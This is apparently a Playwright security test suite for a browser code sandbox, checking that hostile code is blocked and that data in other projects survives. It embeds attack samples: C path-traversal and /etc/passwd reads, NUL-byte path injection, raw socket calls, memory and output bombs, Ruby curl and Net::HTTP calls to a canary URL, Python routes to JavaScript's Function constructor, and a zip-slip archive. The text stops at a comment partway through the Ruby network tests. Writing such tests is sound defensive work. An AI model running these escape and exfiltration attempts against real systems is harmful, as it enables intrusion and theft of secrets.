import type { BrowserContext, Page } from '@playwright/test';
import { strToU8, zipSync } from 'fflate';
import { startCanary, type Canary } from '../helpers/canary.ts';
import { chooseLanguage, expect, expectTerminal, openApp, projectNames, runCode, runsFinished, setEditorText, terminalText, test, ui, waitForPython } from '../fixtures.ts';
import { startStaticServer } from '../helpers/static-server.ts';
import { BIG_EXIT_BASE, GROW_STEP_MIB, atomicWaitForever, bigInitialMemory, importsHostFetch, memory64Grower, multiMemoryGrower, plainGrower, sharedMemoryGrower } from '../../tests/security/hand-made-wasm.ts';

// Code in the sandbox is hostile. Each case is an attempt a real attacker would make from C/WASI,
// Ruby or Python (what the Python suite does not cover yet), and asserts that it is blocked AND
// that the tab, this project's files and every other project's files survive it.
// Cases marked test.fail() document a hole that exists today; the comment names it (SECURITY.md
// lists them). When the hole is fixed the case starts passing and Playwright flags it: drop the
// test.fail() then.
test.describe.configure({ mode: 'serial', timeout: 240_000 });

let context: BrowserContext;
let page: Page;
let canary: Canary;
/** OPFS id of the project the attacks run in, and of a second project holding a secret. */
let ownId = '';
let victimId = '';
/** Every OPFS file outside this project (the other project, chats...), by path: must never change. */
let outside: Record<string, string> = {};

const API_KEY = 'sk-SECRET-KEY-runtimes-7';
const VICTIM_SECRET = 'VICTIM-SECRET-4242';

// The attacker's C program: one binary, one case per argv[1], so clang compiles once.
const ATTACK_C = String.raw`#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define WASI(name) __attribute__((import_module("wasi_snapshot_preview1"), import_name(name)))
WASI("path_open") int raw_path_open(int fd, int dirflags, const char *path, size_t len, int oflags, long long base, long long inheriting, int fdflags, int *out);
WASI("sock_send") int raw_sock_send(int fd, const void *iovs, size_t n, int flags, size_t *sent);
WASI("sock_recv") int raw_sock_recv(int fd, void *iovs, size_t n, int flags, size_t *got, int *oflags);
WASI("sock_accept") int raw_sock_accept(int fd, int flags, int *out);

static void try_open(const char *path, const char *mode) {
  errno = 0;
  FILE *f = fopen(path, mode);
  if (!f) { printf("refused %s %s: %s\n", mode, path, strerror(errno)); return; }
  char buf[64] = {0};
  size_t n = fread(buf, 1, sizeof buf - 1, f);
  fclose(f);
  printf("OPENED %s %s (%zu bytes: %s)\n", mode, path, n, buf);
}

static void list_tree(const char *dir, int depth) {
  DIR *d = opendir(dir);
  if (!d) { printf("cannot list %s: %s\n", dir, strerror(errno)); return; }
  struct dirent *e;
  while ((e = readdir(d))) {
    if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..")) continue;
    char path[1024];
    snprintf(path, sizeof path, "%s%s%s", dir, dir[strlen(dir) - 1] == '/' ? "" : "/", e->d_name);
    printf("seen %s\n", path);
    if (e->d_type == DT_DIR && depth < 6) list_tree(path, depth + 1);
  }
  closedir(d);
}

static void report(const char *what, int rc) { printf("%s: %d %s\n", what, rc, rc ? strerror(errno) : "ok"); }

int main(int argc, char **argv) {
  const char *mode = argc > 1 ? argv[1] : "";
  if (!strcmp(mode, "paths")) {
    const char *paths[] = {"../x", "../../etc/passwd", "/workspace/../x", "/workspace/../../etc/passwd", "/workspace/./../x",
                           "/etc/passwd", "//etc/passwd", "/proc/self/environ", "/dev/stdin", "sub/../../x", "..", "/workspace/.."};
    for (unsigned i = 0; i < sizeof paths / sizeof *paths; i++) { try_open(paths[i], "r"); try_open(paths[i], "w"); try_open(paths[i], "a"); }
    errno = 0; report("chdir ..", chdir(".."));
    DIR *d = opendir(".."); printf("opendir ..: %s\n", d ? "OPENED" : "refused");
    list_tree("/", 0);
  } else if (!strcmp(mode, "victim") && argc > 3) {
    const char *fmts[] = {"../%s/secret.txt", "../../%s/secret.txt", "../projects/%s/secret.txt", "../../projects/%s/secret.txt",
                          "../../../projects/%s/secret.txt", "/projects/%s/secret.txt", "/%s/secret.txt", "projects/%s/secret.txt",
                          "/workspace/../%s/secret.txt", "/workspace/../projects/%s/secret.txt", "/workspace/../../projects/%s/secret.txt"};
    char path[512];
    for (unsigned i = 0; i < sizeof fmts / sizeof *fmts; i++) {
      snprintf(path, sizeof path, fmts[i], argv[2]);
      try_open(path, "r");
      try_open(path, "a");
    }
    snprintf(path, sizeof path, "../%s/keep.txt", argv[3]);
    try_open(path, "r");
    for (int fd = 3; fd <= 4; fd++) {
      int out = -1;
      snprintf(path, sizeof path, "../projects/%s/secret.txt", argv[2]);
      printf("raw path_open %s on fd %d: errno %d\n", path, fd, raw_path_open(fd, 0, path, strlen(path), 0, ~0LL, ~0LL, 0, &out));
    }
    list_tree("/", 0);
  } else if (!strcmp(mode, "nul")) {
    static const char sneaky[] = "keep.txt\0/../../x";
    for (int fd = 3; fd <= 4; fd++) {
      int out = -1;
      printf("raw NUL open on fd %d: errno %d\n", fd, raw_path_open(fd, 0, sneaky, sizeof sneaky - 1, 0, ~0LL, ~0LL, 0, &out));
      printf("raw NUL create on fd %d: errno %d\n", fd, raw_path_open(fd, 0, "evil\0name.txt", 13, 1, ~0LL, ~0LL, 0, &out));
      printf("raw absolute open on fd %d: errno %d\n", fd, raw_path_open(fd, 0, "/etc/passwd", 11, 0, ~0LL, ~0LL, 0, &out));
      printf("raw dotdot create on fd %d: errno %d\n", fd, raw_path_open(fd, 0, "../../x", 7, 1, ~0LL, ~0LL, 0, &out));
    }
  } else if (!strcmp(mode, "links")) {
    errno = 0; report("symlink /etc/passwd", symlink("/etc/passwd", "link-etc"));
    errno = 0; report("symlink ../x", symlink("../x", "link-up"));
    errno = 0; report("link out", link("keep.txt", "../../hard"));
    errno = 0; report("rename out", rename("keep.txt", "../../keep.txt"));
    errno = 0; report("mkdir out", mkdir("../../dir", 0777));
    errno = 0; report("unlink out", unlink("../../x"));
    char buf[64];
    errno = 0; report("readlink", (int)readlink("keep.txt", buf, sizeof buf) < 0 ? -1 : 0);
  } else if (!strcmp(mode, "tmp")) {
    list_tree("/tmp", 0);
    const char *paths[] = {"/tmp/../../etc/passwd", "/tmp/../../x", "/tmp/./../..//etc/passwd", "/tmp/../../projects/x"};
    for (unsigned i = 0; i < sizeof paths / sizeof *paths; i++) { try_open(paths[i], "r"); try_open(paths[i], "w"); }
    errno = 0; report("chdir /tmp", chdir("/tmp"));
    try_open("../../etc/passwd", "r");
    try_open("../../x", "w");
    try_open("../workspace/keep.txt", "r");
    errno = 0; report("symlink /tmp/etc", symlink("/etc", "/tmp/etc"));
    errno = 0; report("symlink /tmp/up", symlink("../..", "/tmp/up"));
    errno = 0; report("symlink /passwd", symlink("/etc/passwd", "/passwd"));
    errno = 0; report("symlink /workspace/root", symlink("/tmp/..", "/workspace/root"));
    for (int fd = 3; fd <= 6; fd++) {
      int out = -1;
      printf("raw tmp dotdot on fd %d: errno %d\n", fd, raw_path_open(fd, 0, "../../x", 7, 1, ~0LL, ~0LL, 0, &out));
    }
    FILE *f = fopen("/tmp/left-behind.txt", "w");
    fputs("x", f);
    fclose(f);
  } else if (!strcmp(mode, "abswrite")) {
    FILE *f = fopen("/escape-abs.txt", "w");
    if (f) { fputs("written by an absolute path\n", f); fclose(f); puts("absolute write done"); } else printf("absolute write refused: %s\n", strerror(errno));
  } else if (!strcmp(mode, "sock")) {
    size_t n = 0; int flags = 0, out = -1; char data[16] = "stolen";
    printf("sock_send: %d\n", raw_sock_send(0, data, 0, 0, &n));
    printf("sock_recv: %d\n", raw_sock_recv(0, data, 0, 0, &n, &flags));
    printf("sock_accept: %d\n", raw_sock_accept(3, 0, &out));
  } else if (!strcmp(mode, "bomb")) {
    static void *volatile sink;
    size_t total = 0;
    for (;;) {
      char *p = malloc(16 << 20);
      if (!p) { printf("malloc gave up after %zu MiB\n", total >> 20); abort(); }
      memset(p, 1, 16 << 20);
      *(void **)p = sink;
      sink = p;
      total += 16 << 20;
    }
  } else if (!strcmp(mode, "stack")) {
    volatile char frame[512];
    frame[0] = (char)argc;
    char *args[] = {argv[0], "stack", (char *)frame, 0};
    return main(3, args) + frame[0];
  } else if (!strcmp(mode, "flood")) {
    static char line[1000];
    memset(line, 'A', sizeof line - 1);
    line[sizeof line - 1] = '\n';
    for (int i = 0; i < 104858; i++) fwrite(line, 1, sizeof line, stdout);
  } else if (!strcmp(mode, "flood-exact")) {
    static char chunk[1 << 20];
    memset(chunk, 'B', sizeof chunk);
    for (int i = 0; i < 100; i++) write(1, chunk, sizeof chunk);
  } else if (!strcmp(mode, "stdin")) {
    long n = 0;
    while (getchar() != EOF) n++;
    printf("stdin ended after %ld bytes\n", n);
  } else if (!strcmp(mode, "stdin-forever")) {
    char buf[16];
    puts("reading stdin forever");
    for (;;) (void)read(0, buf, sizeof buf);
  } else if (!strcmp(mode, "sleep")) {
    puts("sleeping an hour");
    sleep(3600);
  } else {
    printf("unknown case %s\n", mode);
    return 2;
  }
  return 0;
}
`;

// The attacker's Ruby: argv = case, canary URL, victim id.
const ATTACK_RB = String.raw`def attempt(label)
  result = yield
  puts "#{label}: REACHED #{result.inspect[0, 80]}"
rescue Exception => e
  puts "#{label}: refused (#{e.class}: #{e.message[0, 90]})"
end
mode, canary, victim = ARGV
case mode
when "js"
  require "js"
  attempt("JS.global[:fetch]") { JS.global[:fetch] }
  attempt("JS.global.call(:fetch)") { JS.global.call(:fetch, "#{canary}/ruby-call") }
  attempt("JS.eval fetch") { JS.eval("return fetch('#{canary}/ruby-eval')") }
  attempt("JS.eval globalThis") { JS.eval("return globalThis") }
  attempt("JS.global[:localStorage]") { JS.global[:localStorage] }
  attempt("JS.global[:navigator]") { JS.global[:navigator] }
  attempt("JS.global[:importScripts]") { JS.global[:importScripts] }
  attempt("JS.global[:fetch] =") { JS.global[:fetch] = 1 }
  attempt("JS.global[:Function]") { JS.global[:Function] }
when "net"
  attempt("Net::HTTP") { require "net/http"; Net::HTTP.get(URI("#{canary}/net-http")) }
  attempt("TCPSocket") { require "socket"; TCPSocket.new("127.0.0.1", canary.split(":").last.to_i) }
  attempt("URI.open") { require "open-uri"; URI.open("#{canary}/open-uri").read }
  attempt("backticks") { %x(curl #{canary}/backticks) }
  attempt("system") { system("curl #{canary}/system") }
  attempt("spawn") { Process.spawn("curl #{canary}/spawn") }
when "paths"
  ["../x", "../../etc/passwd", "/etc/passwd", "/workspace/../x", "../#{victim}/secret.txt", "../projects/#{victim}/secret.txt",
   "/projects/#{victim}/secret.txt", "/workspace/../projects/#{victim}/secret.txt", "../../projects/#{victim}/secret.txt"].each do |path|
    attempt("read #{path}") { File.read(path) }
  end
  attempt("read /tmp/../../etc/passwd") { File.read("/tmp/../../etc/passwd") }
  attempt("write ../../escape.txt") { File.write("../../escape.txt", "x") }
  attempt("write /workspace/../../escape.txt") { File.write("/workspace/../../escape.txt", "x") }
  attempt("write /tmp/../../escape.txt") { File.write("/tmp/../../escape.txt", "x") }
  attempt("symlink") { File.symlink("/etc/passwd", "link") }
  attempt("symlink in /tmp") { File.symlink("..", "/tmp/up") }
  attempt("Dir.entries /workspace/../..") { Dir.entries("/workspace/../..") }
  attempt("Dir.chdir /tmp/../..") { Dir.chdir("/tmp/../..") }
  puts "glob: #{(Dir.glob("/**/*") + Dir.glob("/workspace/**/*")).grep(/secret|#{victim}/).inspect}"
end
`;

/** Python: every JavaScript function reachable from Python leads to the Function constructor; the worker's CSP must refuse it. */
const EVAL_PY = `from pyodide.ffi import to_js
import pyodide_js
routes = {
    "Function via a converted list": lambda: to_js([]).constructor.constructor,
    "Function via pyodide_js._api.tests": lambda: pyodide_js._api.tests.Function,
    "Function via pyodide_js.FS.mount": lambda: pyodide_js.FS.mount.constructor,
    "Function via pyodide_js._module's heap": lambda: pyodide_js._module.HEAP8.constructor.constructor,
    "(Async)Function via pyodide_js.loadPackage": lambda: pyodide_js.loadPackage.constructor,
}
for label, get in routes.items():
    try:
        fn = get()("return globalThis")
        print(label, "REACHED", fn)
    except Exception as e:
        print(label, "refused:", type(e).__name__, str(e)[:60])
`;

/** Python: Emscripten file systems that could reach browser storage (IndexedDB, a native directory, Node's disk). */
const STORAGE_PY = `import os
import pyodide_js
from pyodide.ffi import to_js
FS = pyodide_js.FS
def attempt(label, fn):
    try:
        print(label, "->", fn())
    except Exception as e:
        print(label, "refused:", type(e).__name__, str(e)[:80])
def idbfs():
    FS.mkdir("/idb")
    FS.mount(FS.filesystems.IDBFS, to_js({}), "/idb")
    open("/idb/stolen.txt", "w").write("x")
    errors = []
    FS.syncfs(False, lambda err=None: errors.append(str(err)))
    return "syncfs said: " + ", ".join(errors)
def native():
    FS.mkdir("/native")
    pyodide_js.mountNativeFS("/native", FS)
    return sorted(os.listdir("/native"))
attempt("IDBFS", idbfs)
attempt("mountNativeFS", native)
attempt("mountNodeFS", lambda: pyodide_js.mountNodeFS("/host", "/"))
attempt("root", lambda: sorted(os.listdir("/")))
`;

/** Python: swallows KeyboardInterrupt and ignores SIGINT, so the cooperative interrupt never ends it. */
const SIGINT_PY = `import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
print("ignoring interrupts", flush=True)
while True:
    try:
        while True:
            pass
    except KeyboardInterrupt:
        print("swallowed", flush=True)
`;

/** Python: replaces the interrupt buffer the host writes to with one of its own. */
const IBUF_PY = `import pyodide_js
from pyodide.ffi import to_js
pyodide_js.setInterruptBuffer(to_js(memoryview(bytearray(4)).cast("i")))
print("interrupt buffer replaced", flush=True)
while True:
    pass
`;

/** Python: a run that leaves a hook behind for the runs after it. */
const PERSIST_PY = `import builtins, sys
builtins.print = lambda *args, **kwargs: None
sys.stdout.write("hook installed\\n")
`;

test.describe('one shared page, two projects', () => {
  test.beforeAll(async ({ browser }) => {
    test.setTimeout(420_000);
    canary = await startCanary();
    ({ context, page } = await openApp(browser));
    ownId = await currentProjectId();
    // Secrets the attacker wants: the API key (localStorage), and a second project's file (OPFS).
    await page.getByTestId('settings-button').click();
    await page.getByTestId('settings-provider').selectOption('openai-compatible');
    await page.getByTestId('settings-base-url').fill('http://127.0.0.1:9/v1');
    await page.getByTestId('settings-model').fill('m');
    await page.getByTestId('settings-api-key').fill(API_KEY);
    // Compiles in a loaded CI machine can take a while; no case here relies on the run timeout.
    await page.getByTestId('settings-timeout').fill('120');
    await page.getByTestId('settings-save').click();

    await page.getByTestId('project-menu').click();
    await page.getByRole('menuitem', { name: 'New project' }).click();
    await expect(page.getByTestId('project-menu')).toContainText('Project 2');
    expect(await runCode(page, `open("secret.txt", "w").write("${VICTIM_SECRET}")\n`)).toBe('ok 0');
    await expect(ui.treeItem(page, 'secret.txt')).toBeVisible();
    victimId = await currentProjectId();
    await page.getByTestId('project-menu').click();
    await page.getByRole('menuitemradio', { name: /My project/ }).click();
    await expect(ui.treeItem(page, 'secret.txt')).toHaveCount(0);
    expect(await currentProjectId()).toBe(ownId);
    expect(victimId).not.toBe(ownId);

    const text = (name: string, body: string): { name: string; mimeType: string; buffer: Buffer } => ({ name, mimeType: 'text/plain', buffer: Buffer.from(body) });
    const binary = (name: string, bytes: Uint8Array): { name: string; mimeType: string; buffer: Buffer } => ({ name, mimeType: 'application/wasm', buffer: Buffer.from(bytes) });
    await page.getByTestId('upload-input').setInputFiles([
      text('keep.txt', 'precious'),
      text('attack.c', ATTACK_C),
      text('attack.rb', ATTACK_RB),
      text('eval.py', EVAL_PY),
      text('storage.py', STORAGE_PY),
      text('sigint.py', SIGINT_PY),
      text('ibuf.py', IBUF_PY),
      text('persist.py', PERSIST_PY),
      binary('multi.wasm', multiMemoryGrower()),
      binary('shared.wasm', sharedMemoryGrower()),
      binary('m64.wasm', memory64Grower()),
      binary('plain.wasm', plainGrower()),
      binary('wait.wasm', atomicWaitForever()),
      binary('hostfetch.wasm', importsHostFetch()),
      binary('big.wasm', bigInitialMemory()),
    ]);
    await expect(ui.treeItem(page, 'hostfetch.wasm')).toBeVisible();
    // clang loads once (~100 MB) and compiles the attacker's program once.
    expect(await shell('cc attack.c -O2 -o attack.wasm', 300_000)).toBe('ok 0');
    await expect(ui.treeItem(page, 'attack.wasm')).toBeVisible();
    outside = await outsideProject();
    expect(outside[`projects/${victimId}/secret.txt`]).toBe(VICTIM_SECRET);
  });

  test.afterEach(async () => {
    // Every case: nothing reached the attacker, no secret showed up, the next run works, this
    // project's file is intact, and nothing outside this project's folder changed.
    expect(canary.hits).toEqual([]);
    const shown = await outputText();
    expect(shown).not.toContain(API_KEY);
    expect(shown).not.toContain(VICTIM_SECRET);
    expect(await shell('cat keep.txt')).toBe('ok 0');
    expect(await outputText()).toContain('precious');
    expect(await outsideProject()).toEqual(outside);
  });

  test.afterAll(async () => {
    await context?.close();
    await canary?.close();
  });

  async function currentProjectId(): Promise<string> {
    return page.evaluate(() => localStorage.getItem('isobox:current-project') ?? '');
  }

  /** Every OPFS file outside the open project's folder, with its text. */
  async function outsideProject(): Promise<Record<string, string>> {
    return page.evaluate(async (own) => {
      const files: Record<string, string> = {};
      const walk = async (dir: FileSystemDirectoryHandle, prefix: string): Promise<void> => {
        for await (const [name, handle] of dir.entries()) {
          const path = `${prefix}${name}`;
          if (path === `projects/${own}`) continue;
          if (handle.kind === 'directory') await walk(handle as FileSystemDirectoryHandle, `${path}/`);
          else files[path] = await (await (handle as FileSystemFileHandle).getFile()).text();
        }
      };
      await walk(await navigator.storage.getDirectory(), '');
      return files;
    }, ownId);
  }

  async function outputText(): Promise<string> {
    return terminalText(page);
  }

  /** Types a shell line into a cleared terminal and waits for it to finish; returns the run status. */
  async function shell(line: string, timeout = 120_000, options: { clear?: boolean } = {}): Promise<string> {
    const before = await runsFinished(page);
    await typeLine(line, options.clear ?? true);
    await expect(ui.runStatus(page)).toHaveAttribute('data-runs', String(before + 1), { timeout });
    return (await ui.runStatus(page).textContent()) ?? '';
  }

  async function typeLine(line: string, clear = true): Promise<void> {
    await ui.output(page).click();
    await page.keyboard.type(clear ? `clear && ${line}` : line);
    await page.keyboard.press('Enter');
  }

  /**
   * Starts a shell line that never ends on its own, waits until `ready` is printed, and stops it.
   * No `clear &&` first: the output pump sends a write that follows another within 16 ms only with
   * a later write (or at the end), and these programs print once, then block.
   */
  async function stopShell(line: string, ready: string | RegExp): Promise<void> {
    await typeLine(line, false);
    await expect(ui.runStatus(page)).toHaveText('running');
    await expectTerminal(page, { timeout: 60_000 }).toMatch(ready);
    await expectStopWithin2s();
  }

  /** The product promise: Stop ends a run within 2 s, whatever the run does. */
  async function expectStopWithin2s(): Promise<void> {
    await page.waitForTimeout(500);
    const stoppedAt = Date.now();
    await page.getByTestId('stop-button').click();
    await expect(ui.runStatus(page)).toHaveText('killed 137', { timeout: 2_000 });
    expect(Date.now() - stoppedAt).toBeLessThan(2_000);
  }

  /** Lines of output that start with `prefix`. */
  function lines(text: string, prefix: string): string[] {
    return text.split('\n').filter((line) => line.startsWith(prefix));
  }

  /** MiB a hand-made grower got on top of its start (its exit code counts steps), from the run status; NaN if unknown. */
  function grownMiB(status: string): number {
    return Number(/^\w+ (\d+)$/.exec(status)?.[1] ?? NaN) * GROW_STEP_MIB;
  }

  // ---------------------------------------------------------------------------------------------
  // C / WASI: the file system

  // Promise: no reach outside the sandbox's own `/` (`..`, absolute paths, /proc, /dev) from a WASI
  // program. `..` from /workspace is that `/`: in memory, holding /workspace and /tmp, and whatever
  // a program creates there is discarded after the run.
  test('C: fopen of ../../, /etc/passwd and friends is refused; ../ is the sandbox root, which lists only workspace and tmp', async () => {
    expect(await shell('./attack.wasm paths')).toBe('ok 0');
    const out = await outputText();
    // What opens is `/x` (created by the first write, empty) or `/` itself: nothing of the host.
    const opened = lines(out, 'OPENED');
    expect(opened).toHaveLength(13);
    for (const line of opened) expect(line).toMatch(/^OPENED [rwa] (\.\.\/x|\/workspace\/(\.\/)?\.\.\/x|sub\/\.\.\/\.\.\/x|\.\.|\/workspace\/\.\.) \(0 bytes: \)$/);
    expect(lines(out, 'refused')).toHaveLength(23);
    for (const path of ['../../etc/passwd', '/etc/passwd', '//etc/passwd', '/proc/self/environ', '/workspace/../../etc/passwd']) expect(out).toContain(`refused r ${path}`);
    expect(out).toContain('chdir ..: 0 ok');
    expect(out).toContain('opendir ..: refused');
    expect(lines(out, 'seen /').filter((line) => !line.startsWith('seen /workspace'))).toEqual(['seen /tmp', 'seen /x']);
    expect(out).toContain('seen /workspace/keep.txt');
    expect(out).not.toContain(victimId);
    await expect(ui.fileTree(page).locator('[data-path="x"]')).toHaveCount(0);
  });

  // Promise: /tmp is scratch inside the sandbox: `..` from it climbs to `/` and no further, symlinks
  // (out of /tmp or /) do not exist, and what a run leaves in /tmp is gone by the next run.
  test('C: from /tmp, ../../ and symlinks out are refused, and /tmp starts empty on every run', async () => {
    for (let run = 0; run < 2; run++) {
      expect(await shell('./attack.wasm tmp')).toBe('ok 0');
      const out = await outputText();
      expect(lines(out, 'seen ')).toEqual([]);
      expect(lines(out, 'OPENED')).toEqual(['OPENED r ../workspace/keep.txt (8 bytes: precious)']);
      expect(lines(out, 'refused')).toHaveLength(10);
      expect(out).toContain('chdir /tmp: 0 ok');
      for (const what of ['/tmp/etc', '/tmp/up', '/passwd', '/workspace/root']) expect(out).toContain(`symlink ${what}: -1 Not supported`);
      expect(lines(out, 'raw tmp dotdot')).toEqual(Array.from({ length: 4 }, () => expect.stringMatching(/errno 76$/)));
    }
    await expect(ui.fileTree(page).locator('[data-path="left-behind.txt"]')).toHaveCount(0);
  });

  // Promise: no reach into other projects, whatever path names the other project's folder.
  test('C: another project’s file is unreachable by every path trick', async () => {
    expect(await shell(`./attack.wasm victim ${victimId} ${ownId}`)).toBe('ok 0');
    const out = await outputText();
    expect(lines(out, 'OPENED')).toEqual([]);
    expect(lines(out, 'refused')).toHaveLength(23);
    // fd 3 is `/` (above it: ENOTCAPABLE); fd 4 is /workspace, whose `..` is `/`, which has no `projects`.
    expect(lines(out, 'raw path_open')).toEqual([expect.stringMatching(/errno 76$/), expect.stringMatching(/errno 44$/)]);
    expect(lines(out, 'seen ').filter((line) => line.includes(victimId) || line.includes('secret'))).toEqual([]);
  });

  // Promise: no reach outside the project (a NUL byte inside a raw WASI path).
  test('C: a NUL byte in a path_open path is refused and creates nothing', async () => {
    expect(await shell('./attack.wasm nul')).toBe('ok 0');
    const out = await outputText();
    // 28 = EINVAL (NUL), 76 = ENOTCAPABLE (absolute or above the root).
    expect(lines(out, 'raw NUL')).toEqual(Array.from({ length: 4 }, () => expect.stringMatching(/errno 28$/)));
    expect(lines(out, 'raw absolute')).toEqual(Array.from({ length: 2 }, () => expect.stringMatching(/errno 76$/)));
    expect(lines(out, 'raw dotdot')).toEqual(Array.from({ length: 2 }, () => expect.stringMatching(/errno 76$/)));
    await expect(ui.fileTree(page).locator('[data-path^="evil"]')).toHaveCount(0);
  });

  // Promise: no reach outside the project (symlinks and hard links, rename/mkdir/unlink above the root).
  test('C: symlink is not supported; link, rename, mkdir and unlink above the root are refused', async () => {
    expect(await shell('./attack.wasm links')).toBe('ok 0');
    const out = await outputText();
    expect(out).toMatch(/symlink \/etc\/passwd: -1 Not supported/);
    expect(out).toMatch(/symlink \.\.\/x: -1 Not supported/);
    for (const what of ['link out', 'rename out', 'mkdir out', 'unlink out']) expect(out).toMatch(new RegExp(`${what}: -1 Capabilities insufficient`));
    await expect(ui.fileTree(page).locator('[data-path^="link-"]')).toHaveCount(0);
  });

  // Promise: no reach outside the sandbox. An absolute path outside /workspace and /tmp lands in
  // the sandbox's own `/`, in memory for that run: not in the project, and gone afterwards.
  test('C: a write to an absolute path outside /workspace lands in the sandbox root, not in the project', async () => {
    expect(await shell('./attack.wasm abswrite')).toBe('ok 0');
    expect(await outputText()).toContain('absolute write done');
    await expect(ui.fileTree(page).locator('[data-path="escape-abs.txt"]')).toHaveCount(0);
  });

  // Promise: a shared link/zip cannot write into another project (zip slip).
  test('a zip whose entries climb into another project is refused and writes nothing', async () => {
    const zip = zipSync({ [`../${victimId}/secret.txt`]: strToU8('OVERWRITTEN'), [`../../projects/${victimId}/secret.txt`]: strToU8('OVERWRITTEN'), 'ok.txt': strToU8('x') });
    await page.getByTestId('zip-input').setInputFiles({ name: 'slip.zip', mimeType: 'application/zip', buffer: Buffer.from(zip) });
    await expect(page.getByTestId('notice')).toContainText('Could not import slip.zip');
    expect(await projectNames(page)).toEqual(['My project', 'Project 2']);
  });

  // ---------------------------------------------------------------------------------------------
  // C / WASI: network

  // Promise: no network from user code. WASI has no socket to open, the shim's socket calls say
  // ENOTSUP (58), and a module importing anything beyond WASI (a host `fetch`) cannot start.
  test('C: WASI socket calls are ENOTSUP and host imports beyond WASI are refused', async () => {
    expect(await shell('./attack.wasm sock')).toBe('ok 0');
    const out = await outputText();
    expect(lines(out, 'sock_')).toEqual(['sock_send: 58', 'sock_recv: 58', 'sock_accept: 58']);
    expect(await shell('./hostfetch.wasm')).toBe('error 126');
    await expectTerminal(page).toContain('cannot start');
  });

  // ---------------------------------------------------------------------------------------------
  // C / WASI: resources

  // Promise: a runaway allocation ends as oom (the 1 GiB cap), not a dead tab; the next run works.
  test('C: a malloc bomb ends as oom', async () => {
    expect(await shell('./attack.wasm bomb')).toMatch(/^(oom|crashed) /);
    await expectTerminal(page).toMatch(/out of memory|malloc gave up/);
  });

  // Control case for the memory-cap holes below: the cap holds for one plain 32-bit memory.
  test('a hand-made module growing its one memory stops at the 1 GiB cap', async () => {
    const status = await shell('./plain.wasm');
    expect(grownMiB(status)).toBeLessThanOrEqual(1024);
  });

  // Promise: memory cap. A program whose static data needs 1.5 GiB (what a `static char
  // big[1536 << 20]` compiles to) must not run with it (was a hole: it kept its initial size). The module exits with BIG_EXIT_BASE + its size in 256 MiB steps (206) when it ran.
  test('a module whose initial memory is above the cap does not run', async () => {
    // Only positive evidence fails this case: the module ran and reported 1.5 GiB of memory.
    expect(await shell('./big.wasm')).not.toMatch(new RegExp(` ${BIG_EXIT_BASE + 6}$`));
  });

  // Promise: memory cap, for every memory of a module (was a hole: a second memory grew to 4 GiB).
  test('a hand-made module with two memories stays under the memory cap', async () => {
    const status = await shell('./multi.wasm');
    expect(grownMiB(status) > 1024, `grew ${grownMiB(status)} MiB (${status})`).toBe(false);
  });

  // Promise: memory cap, for shared memories too (was a hole: one grew to 4 GiB).
  test('a hand-made module with a shared memory stays under the memory cap', async () => {
    const status = await shell('./shared.wasm');
    expect(grownMiB(status) > 1024, `grew ${grownMiB(status)} MiB (${status})`).toBe(false);
  });

  // Promise: memory cap, for 64-bit memories too (was a hole: Chromium let one grow to 16 GiB).
  test('a hand-made module with a 64-bit memory stays under the memory cap', async () => {
    const status = await shell('./m64.wasm');
    expect(grownMiB(status) > 1024, `grew ${grownMiB(status)} MiB (${status})`).toBe(false);
  });

  // Promise: deep recursion ends as an error or a crash, not a dead tab.
  test('C: unbounded recursion ends as crashed, and the tab lives on', async () => {
    expect(await shell('./attack.wasm stack')).toMatch(/^(crashed|error) /);
    await expectTerminal(page).toMatch(/wasm trap|stack/);
  });

  // Promise: output cap (a 100 MB flood is cut at 1 MiB, the cut is said, the tab stays responsive).
  test('C: a 100 MB stdout flood is capped and the cut is reported', async () => {
    expect(await shell('./attack.wasm flood')).toBe('ok 0');
    const length = (await terminalText(page)).length;
    expect(length).toBeLessThan(1.2 * 1024 * 1024);
    await expectTerminal(page).toContain('stdout truncated');
  });

  // Promise: output cap, "the rest is dropped and truncated is set", also when the cap falls on a
  // write boundary (1 MiB writes). (Was a hole in OutputPump.write, now closed.)
  test('C: a flood in cap-sized writes is reported as truncated too', async () => {
    // No `clear &&` here: its escape sequence would count against the cap and move the boundary.
    expect(await shell('./attack.wasm flood-exact', 120_000, { clear: false })).toBe('ok 0');
    await page.waitForTimeout(1_000);
    const text = await outputText();
    // Only positive evidence fails this case: a full MiB arrived, and no note says the rest was cut.
    const cutSilently = text.split('B').length - 1 >= 1024 * 1024 && !text.includes('stdout truncated');
    expect(cutSilently).toBe(false);
  });

  // Promise: Stop ends any run (a C busy loop makes no WASI call: the worker is terminated).
  test('C: Stop ends for(;;) started with Run', async () => {
    await chooseLanguage(page, 'c');
    await setEditorText(page, 'int main(void) {\n    for (;;) {}\n}\n');
    await page.getByTestId('run-button').click();
    await expect(ui.runStatus(page)).toHaveText('running');
    // Give clang time to compile, so Stop hits the program rather than the compiler.
    await page.waitForTimeout(15_000);
    await expectStopWithin2s();
  });

  // Promise: a program reading stdin never blocks when its stdin is not the terminal: an empty pipe ends (EOF).
  test('WASI: a program reading stdin gets EOF and ends', async () => {
    expect(await shell('true | ./attack.wasm stdin')).toBe('ok 0');
    await expectTerminal(page).toContain('stdin ended after 0 bytes');
  });

  // Promise: Stop ends a program that keeps reading an exhausted stdin.
  test('WASI: Stop ends a program that reads stdin forever', async () => {
    await stopShell('./attack.wasm stdin-forever', 'reading stdin forever');
  });

  // Promise: Stop ends a program sleeping for an hour (poll_oneoff waits on the interrupt flag).
  test('WASI: Stop ends sleep(3600)', async () => {
    await stopShell('./attack.wasm sleep', 'sleeping an hour');
  });

  // Promise: Stop ends a thread blocked in memory.atomic.wait with no timeout (an Atomics.wait
  // deadlock: no WASI call ever returns control, so the worker must be terminated).
  test('WASI: Stop ends a module blocked forever in memory.atomic.wait32', async () => {
    await typeLine('./wait.wasm');
    await expect(ui.runStatus(page)).toHaveText('running');
    await page.waitForTimeout(1_000);
    await expectStopWithin2s();
  });

  // ---------------------------------------------------------------------------------------------
  // Ruby

  // Promise: no network, no reach into app state: the js gem's bridge to JavaScript is locked.
  test('Ruby: JS.global and JS.eval reach nothing (fetch, localStorage, navigator)', async () => {
    expect(await shell(`ruby attack.rb js ${canary.url}`)).toBe('ok 0');
    const out = await outputText();
    expect(out).not.toContain('REACHED');
    expect(out.match(/: refused \(JS::Error/g)).toHaveLength(9);
  });

  // Promise: no network from Ruby (no socket extension, no processes).
